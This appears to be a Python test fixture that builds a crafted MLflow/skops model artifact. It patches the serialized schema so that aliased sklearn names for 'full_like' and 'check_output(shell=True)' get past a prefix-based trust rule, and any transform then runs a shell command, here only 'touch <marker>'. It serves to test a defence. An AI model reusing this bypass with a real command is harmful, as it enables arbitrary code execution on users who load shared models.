"""A crafted ``feature_transformer`` artifact, as an attacker with write access to a store makes it.

The file is a genuine MLflow sklearn-flavor folder in the skops format whose ``schema.json`` was
patched afterwards: a ``FunctionTransformer`` fed by ``numpy.full_like`` (a string column holding
a shell command) and then by ``subprocess.check_output(..., shell=True)`` — both named through
aliases inside the ``sklearn`` package (``sklearn.externals.array_api_compat.numpy.full_like``,
``sklearn.utils._testing.check_output``), so a rule "any name starting with ``sklearn.``" lets
them through. Transforming any frame with an iris column then runs ``touch <marker>``.
"""

from __future__ import annotations

import json
import zipfile
from pathlib import Path
from typing import Any

import numpy as np
import yaml

COLUMN = "sepal length (cm)"
FULL_LIKE = ("sklearn.externals.array_api_compat.numpy", "full_like")
CHECK_OUTPUT = ("sklearn.utils._testing", "check_output")


def _placeholder(X: Any, shell: bool = False) -> Any:
    """Stands in for ``check_output`` while fitting; its name is replaced in the file."""
    return np.asarray(X).reshape(-1, 1)


def _patch(node: Any) -> None:
    if isinstance(node, dict):
        if node.get("__loader__") == "FunctionNode":
            if node.get("__class__") == "full_like":
                node["__module__"], node["__class__"] = FULL_LIKE
            elif node.get("__class__") == "_placeholder":
                node["__module__"], node["__class__"] = CHECK_OUTPUT
        for value in node.values():
            _patch(value)
    elif isinstance(node, list):
        for value in node:
            _patch(value)


def crafted_transformer(folder: Path, marker: Path, X: Any) -> Path:
    """Write the crafted transformer folder (fitted on frame ``X``) and return it."""
    import mlflow.sklearn
    import skops.io
    from sklearn.compose import ColumnTransformer
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import FunctionTransformer

    steps = Pipeline([
        ("fill", FunctionTransformer(np.full_like, kw_args={"fill_value": f"touch {marker}", "dtype": "O"})),
        ("run", FunctionTransformer(_placeholder, kw_args={"shell": True})),
    ])
    transformer = ColumnTransformer([("x", steps, COLUMN)]).fit(X)
    trusted = skops.io.get_untrusted_types(data=skops.io.dumps(transformer))
    mlflow.sklearn.save_model(transformer, str(folder), serialization_format="skops",
                              skops_trusted_types=trusted, pip_requirements=["scikit-learn"])
    model_file = folder / yaml.safe_load((folder / "MLmodel").read_text())["flavors"]["sklearn"]["pickled_model"]
    with zipfile.ZipFile(model_file) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    schema = json.loads(files["schema.json"])
    _patch(schema)
    files["schema.json"] = json.dumps(schema).encode()
    with zipfile.ZipFile(model_file, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return folder
